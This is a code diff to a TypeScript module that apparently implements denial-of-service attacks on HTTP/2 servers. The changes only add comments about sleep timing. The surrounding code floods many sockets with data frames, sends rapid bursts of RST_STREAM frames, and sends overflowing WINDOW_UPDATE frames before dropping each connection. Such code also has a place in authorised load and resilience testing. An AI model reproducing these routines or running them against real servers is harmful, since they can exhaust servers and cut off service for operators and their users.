@@ -66,6 +66,7 @@ async function openMany(
 async function forever(step: () => unknown, pauseMs: number): Promise<never> {
   for (;;) {
     await step();
+    // sleep: the rhythm of the attack.
     await delay(pauseMs);
   }
 }
@@ -144,12 +145,13 @@ const attacks: Readonly<Record<string, (target: Target) => Promise<unknown>>> = 
         ),
       ]),
     );
-    // Within the windows that the service gives, and when it has begun all: whoever exceeds them is sent away.
+    // sleep: within the windows that the service gives, and when it has begun all: whoever exceeds them is sent away.
     await delay(2_000);
     for (let round = 0; round < 3; round += 1) {
       for (const id of ids(100)) {
         const bytes = frame(frameTypes.data, 0, id, chunk);
         for (const socket of sockets.filter(({ destroyed }) => !destroyed)) socket.write(bytes);
+        // sleep: the rhythm of the attack.
         await delay(25);
       }
     }
@@ -168,6 +170,7 @@ const attacks: Readonly<Record<string, (target: Target) => Promise<unknown>>> = 
         frame(frameTypes.rstStream, 0, id, Buffer.from([0, 0, 0, 8])),
       ]);
       if (!socket.destroyed) socket.write(Buffer.concat([preface, settingsFrame([]), ...burst]));
+      // sleep: the service reads what came before the connection ends.
       await delay(50);
       socket.destroy();
     }),
@@ -180,6 +183,7 @@ const attacks: Readonly<Record<string, (target: Target) => Promise<unknown>>> = 
         frame(frameTypes.windowUpdate, 0, id, overflow),
       ]);
       if (!socket.destroyed) socket.write(Buffer.concat([preface, settingsFrame([]), ...burst]));
+      // sleep: the service reads what came before the connection ends.
       await delay(50);
       socket.destroy();
     }),
